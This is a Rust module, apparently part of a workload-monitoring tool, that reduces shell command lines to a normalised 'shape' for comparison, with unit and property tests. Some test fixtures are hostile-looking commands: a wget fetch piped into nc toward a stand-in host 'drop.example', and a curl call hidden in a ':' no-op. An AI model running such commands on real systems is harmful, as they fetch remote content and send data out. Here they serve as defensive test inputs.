//! The shape of a command: what stays when comments, white space, quoting, the order of variables, numbers and temporary names
//! are changed. Workloads are told apart by it, so that one cannot be split by what changes nothing.
//!
//! Not here: what a command does. A shape is for comparing and for showing, never for running.

/// Stands for a number, an identifier or a temporary name.
const ANY: &str = "N";
/// Digits in a row from which a number outside of a script is one that was made up for this run: a time, an id.
const LONG_NUMBER: usize = 7;
/// Letters and digits mixed, from which they are an id.
const LONG_ID: usize = 12;
/// Programs that take a script as an argument, and the letter of the option it follows.
const INTERPRETERS: [(&str, &str); 12] = [
    ("sh", "c"),
    ("bash", "c"),
    ("dash", "c"),
    ("ash", "c"),
    ("zsh", "c"),
    ("ksh", "c"),
    ("python", "c"),
    ("perl", "eE"),
    ("ruby", "e"),
    ("node", "ep"),
    ("php", "r"),
    ("lua", "e"),
];
/// Directories of temporary files.
const TEMPORARY: [&str; 3] = ["/tmp/", "/var/tmp/", "/dev/shm/"];

/// The shape of a command whose arguments are joined by spaces. That of a shape is the shape.
pub(crate) fn shape(command: &str) -> String {
    let (head, script) = split(command);
    let mut words: Vec<String> = head.split_whitespace().map(|word| named(word, LONG_NUMBER)).collect();
    sort_variables(&mut words);
    if let Some(script) = script {
        words.push(of_script(script));
    }
    words.retain(|word| !word.is_empty());
    words.join(" ")
}

/// What comes before a script that an interpreter is given, and the script.
fn split(command: &str) -> (&str, Option<&str>) {
    let mut flags: Option<&str> = None;
    let mut is_value = false;
    for word in command.split_whitespace() {
        let end = word.as_ptr() as usize - command.as_ptr() as usize + word.len();
        match flags {
            Some(_) if is_value => is_value = false,
            Some(letters) if takes_script(word, letters) => {
                return (&command[..end], command.get(end..));
            }
            Some(_) if word.starts_with(['-', '+']) => {
                is_value = matches!(word, "-o" | "+o" | "-O" | "-W" | "-X");
            }
            _ => flags = interpreter(word),
        }
    }
    (command, None)
}

fn takes_script(word: &str, letters: &str) -> bool {
    let Some(options) = word.strip_prefix('-').filter(|rest| !rest.starts_with('-')) else { return false };
    options.chars().last().is_some_and(|last| letters.contains(last))
        || (letters == "c" && options.contains('c') && options.chars().all(|c| c.is_ascii_alphabetic()))
}

/// The letters of the options that a script follows, when the word is an interpreter: `/usr/bin/python3.11`.
fn interpreter(word: &str) -> Option<&'static str> {
    let name = word.rsplit('/').next().unwrap_or(word);
    let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    INTERPRETERS.iter().find(|(known, _)| *known == name).map(|(_, letters)| *letters)
}

/// A script without what changes nothing: its statements, each on the same line.
fn of_script(script: &str) -> String {
    let statements = statements(script).into_iter().filter_map(|words| {
        let mut words: Vec<String> = words.iter().map(|word| quoted(&named(&spaced(word), 1))).collect();
        // `:` does nothing, whatever it is given.
        if words.first().is_some_and(|first| first == ":") && words.iter().all(|word| is_plain(word)) {
            return None;
        }
        let variables = words.iter().take_while(|word| is_variable(word)).count();
        words[..variables].sort_unstable();
        Some(words.join(" "))
    });
    statements.collect::<Vec<_>>().join("; ")
}

/// Without anything that would run another program, or be written to.
fn is_plain(word: &str) -> bool {
    !word.contains(['$', '`', '>', '<', '|', '&', '(', ')', '{', '}'])
}

/// The words of each statement, without comments and quotes. Deliberately less than a shell knows.
fn statements(script: &str) -> Vec<Vec<String>> {
    let mut reader = Reader::default();
    let mut chars = script.chars().peekable();
    while let Some(c) = chars.next() {
        match (reader.quote, c) {
            (Some(quote), c) if c == quote => reader.quote = None,
            (Some('"') | None, '\\') => match chars.next() {
                None | Some('\n') => {}
                Some(next) => reader.push(next),
            },
            (Some(_), c) => reader.push(c),
            (None, '\'' | '"') => reader.open(c),
            (None, '#') if reader.word.is_none() => while chars.next_if(|&c| c != '\n').is_some() {},
            (None, ';' | '\n') => reader.end_statement(),
            (None, c) if c.is_whitespace() => reader.end_word(),
            (None, c) => reader.push(c),
        }
    }
    reader.end_statement();
    reader.statements
}

#[derive(Default)]
struct Reader {
    statements: Vec<Vec<String>>,
    words: Vec<String>,
    word: Option<String>,
    quote: Option<char>,
}

impl Reader {
    fn push(&mut self, c: char) {
        self.word.get_or_insert_default().push(c);
    }

    fn open(&mut self, quote: char) {
        self.quote = Some(quote);
        self.word.get_or_insert_default();
    }

    fn end_word(&mut self) {
        self.words.extend(self.word.take());
    }

    fn end_statement(&mut self) {
        self.end_word();
        if !self.words.is_empty() {
            self.statements.push(std::mem::take(&mut self.words));
        }
    }
}

/// A word with white space and quotes within in one form.
fn spaced(word: &str) -> String {
    word.split_whitespace().collect::<Vec<_>>().join(" ").replace('\'', "\"")
}

/// A word as it is read again as the same one: in quotes if need be.
fn quoted(word: &str) -> String {
    let needs_quotes = word.is_empty() || word.contains(['#', ';', '"', '\\', ' ']);
    if needs_quotes { format!("'{word}'") } else { word.to_owned() }
}

/// A word with its path in one form, and with what is made up for one run taken out of it.
fn named(word: &str, number_min: usize) -> String {
    let path = if word.starts_with('/') && !word.contains(' ') { path(word) } else { word.to_owned() };
    if let Some(directory) = TEMPORARY.iter().find(|directory| path.starts_with(**directory)) {
        return format!("{directory}{ANY}");
    }
    let mut out = String::with_capacity(path.len());
    let mut rest = path.as_str();
    while !rest.is_empty() {
        let run = rest.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(rest.len());
        if run == 0 {
            let next = rest.chars().next().map_or(1, char::len_utf8);
            out.push_str(&rest[..next]);
            rest = &rest[next..];
            continue;
        }
        let uuid = uuid_len(rest);
        let (kept, after) = rest.split_at(uuid.unwrap_or(run));
        let is_made_up = uuid.is_some() || is_id(kept) || is_number(kept, number_min, &out, after);
        out.push_str(if is_made_up { ANY } else { kept });
        rest = after;
    }
    out
}

/// Digits alone, unless they are part of an address or a version: where something goes is no detail.
fn is_number(run: &str, number_min: usize, before: &str, after: &str) -> bool {
    let joins = |rest: &str| {
        rest.strip_prefix(['.', ':'])
            .is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_alphanumeric()))
    };
    run.len() >= number_min
        && run.bytes().all(|byte| byte.is_ascii_digit())
        && !before.ends_with(['.', ':'])
        && !joins(after)
}

/// Letters and digits mixed as no name has them.
fn is_id(run: &str) -> bool {
    let digits = run.bytes().filter(u8::is_ascii_digit).count();
    run.len() >= LONG_ID && digits >= 3 && digits < run.len()
}

/// How long the UUID is that the text begins with.
fn uuid_len(text: &str) -> Option<usize> {
    let bytes = text.as_bytes().get(..36)?;
    let fits = |(at, byte): (usize, &u8)| match at {
        8 | 13 | 18 | 23 => *byte == b'-',
        _ => byte.is_ascii_hexdigit(),
    };
    bytes.iter().enumerate().all(fits).then_some(36)
}

/// `/usr//bin/./x/../sh` → `/usr/bin/sh`.
fn path(text: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    for part in text.split('/') {
        match part {
            "" | "." => {}
            ".." => drop(parts.pop()),
            part => parts.push(part),
        }
    }
    format!("/{}", parts.join("/"))
}

/// Variables that are set for a command stand together: after `env`, or before all.
fn sort_variables(words: &mut [String]) {
    let is_env = |word: &String| word == "env" || word.ends_with("/env");
    let from = words.iter().position(is_env).map_or(0, |at| at + 1);
    let count = words[from..].iter().take_while(|word| is_variable(word)).count();
    words[from..from + count].sort_unstable();
}

fn is_variable(word: &str) -> bool {
    let name = word.split_once('=').map_or("", |(name, _)| name);
    !name.is_empty()
        && !name.starts_with(|c: char| c.is_ascii_digit())
        && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::shape;

    fn check(alike: &[&str], wanted: &str) {
        for command in alike {
            assert_eq!(shape(command), wanted, "{command}");
        }
    }

    #[test]
    fn what_changes_nothing_in_a_script_is_no_part_of_its_shape() {
        let wanted = "sh -c wget -O- http://198.51.100.7:8080/x | nc drop.example N; sleep N";
        check(
            &[
                "sh -c wget -O- http://198.51.100.7:8080/x | nc drop.example 80; sleep 5",
                "sh -c wget -O- http://198.51.100.7:8080/x | nc drop.example 80; sleep 5 # 12",
                "sh -c # one\n wget  -O-   \"http://198.51.100.7:8080/x\" | nc 'drop.example' 443\nsleep 77;",
                "sh -c : piece 7; wget -O- http://198.51.100.7:8080/x | nc drop\\.example 81; sleep 1",
            ],
            wanted,
        );
        check(
            &[
                "timeout 5 /bin//bash -o pipefail -ec A=1 B=2 run 1",
                "timeout 5 /bin/x/../bash -o pipefail -ec B=2 A=1 run 2",
            ],
            "timeout 5 /bin/bash -o pipefail -ec A=N B=N run N",
        );
        check(
            &["python3 -c import x; x.go(17) # a", "python3 -c import x; x.go(18)"],
            "python3 -c import x; x.go(N)",
        );
    }

    #[test]
    fn made_up_names_are_no_part_of_any_command() {
        check(&["env B=y A=x job /tmp/tmp.Ab3dE", "env A=x B=y job /tmp/other/1"], "env A=x B=y job /tmp/N");
        check(
            &[
                "job --id 0b5cd6ce-1f0a-4b9c-9a58-2f4a6a1f0e11",
                "job --id 4f6ab2c19d3e",
                "job --id 1700000000",
            ],
            "job --id N",
        );
    }

    #[test]
    fn what_is_meant_stays() {
        for command in [
            "httpd -f",
            "nginx -g daemon off;",
            "node /srv/app/server.js --service=service-7 --port=8080",
            "redis-server --port 6379",
            "sh /entrypoint.sh serve 3",
            "postgres -c shared_buffers=256MB",
        ] {
            assert_eq!(shape(command), command);
        }
        assert_ne!(shape("sh -c nc 10.0.0.1 80"), shape("sh -c nc 10.0.0.2 80"));
        assert_ne!(shape("sh -c echo '# 1' > /etc/x"), shape("sh -c echo"));
        assert_ne!(shape("sh -c : $(curl http://x)"), shape("sh -c :"));
    }

    proptest! {
        #[test]
        fn the_shape_of_a_shape_is_the_shape(text in "((sh|bash|/bin//sh) (-c|-ec) )?[a-c0-9 '\"#;\\\\\n/:=.$N-]{0,60}") {
            let once = shape(&text);
            prop_assert_eq!(shape(&once), once);
        }
    }
}
